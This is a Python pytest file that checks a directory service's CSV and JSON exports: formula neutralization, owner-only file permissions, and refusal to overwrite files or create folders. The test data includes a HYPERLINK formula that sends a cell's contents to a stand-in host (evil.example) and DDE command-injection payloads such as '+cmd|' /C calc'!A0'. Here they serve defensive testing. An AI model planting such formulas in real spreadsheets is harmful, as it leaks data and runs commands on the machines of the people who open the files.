"""Exports: formulas neutralized in CSV, private files 0600, no silent overwrite or mkdir."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest

from directory.db import Database
from directory.hsds.export import ExportFormat, ExportVisibility, export
from directory.hsds.formulas import neutralize, restore
from directory.hsds.importer import import_path
from tests.listings.helpers import make

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / name).open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("+52 55 5555 0100", "+52 55 5555 0100"),
        ("-99.13", "-99.13"),
        ("Casa Refugio", "Casa Refugio"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralized(text: str, cell: str) -> None:
    assert neutralize(text) == cell
    assert restore(cell) == text


async def test_a_formula_in_a_listing_is_exported_as_text_and_reimports_unchanged(
    db: Database, tmp_path: Path
) -> None:
    await make(
        db,
        slug="formula-example",
        name=EVIL_NAME,
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        contacts=[{"name": "-Mesa", "phones": [{"number": "+52 55 5555 0100"}]}],
    )
    await export(db, tmp_path / "pkg", ExportFormat.CSV, ExportVisibility.PUBLIC)
    [organization] = _rows(tmp_path / "pkg", "organizations.csv")
    assert organization["name"] == "'" + EVIL_NAME
    assert organization["description"].startswith("'@SUM")
    assert [c["name"] for c in _rows(tmp_path / "pkg", "contacts.csv")] == ["'-Mesa"]
    assert [p["number"] for p in _rows(tmp_path / "pkg", "phones.csv")] == ["+525555550100"]
    report = await import_path(db, tmp_path / "pkg")
    assert (report.unchanged, report.updated, report.rejected) == (1, 0, [])


@pytest.mark.parametrize("visibility", [ExportVisibility.PARTNERS, ExportVisibility.CONFIDENTIAL])
async def test_restricted_exports_are_readable_by_their_owner_only(
    db: Database, tmp_path: Path, visibility: ExportVisibility
) -> None:
    await make(db)
    await export(db, tmp_path / "out.json", ExportFormat.JSON, visibility)
    await export(db, tmp_path / "pkg", ExportFormat.CSV, visibility)
    assert _mode(tmp_path / "out.json") == 0o600
    assert _mode(tmp_path / "pkg") == 0o700
    files = list((tmp_path / "pkg").iterdir())
    assert files and all(_mode(f) == 0o600 for f in files)


async def test_json_export_does_not_overwrite_unless_asked(db: Database, tmp_path: Path) -> None:
    await make(db)
    out = tmp_path / "out.json"
    out.write_text("a partner's earlier file\n")
    with pytest.raises(ValueError, match="--overwrite"):
        await export(db, out, ExportFormat.JSON, ExportVisibility.PUBLIC)
    assert out.read_text() == "a partner's earlier file\n"
    await export(db, out, ExportFormat.JSON, ExportVisibility.PUBLIC, overwrite=True)
    assert out.read_text().startswith("[")
    await export(db, tmp_path / "pkg", ExportFormat.CSV, ExportVisibility.PUBLIC)
    await export(db, tmp_path / "pkg", ExportFormat.CSV, ExportVisibility.PUBLIC, overwrite=True)
    assert (tmp_path / "pkg" / "datapackage.json").is_file()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_out_into_a_missing_folder_is_refused_and_creates_nothing(
    db: Database, tmp_path: Path, fmt: ExportFormat
) -> None:
    with pytest.raises(ValueError, match="does not exist"):
        await export(db, tmp_path / "missing" / "out", fmt, ExportVisibility.PUBLIC)
    assert not (tmp_path / "missing").exists()
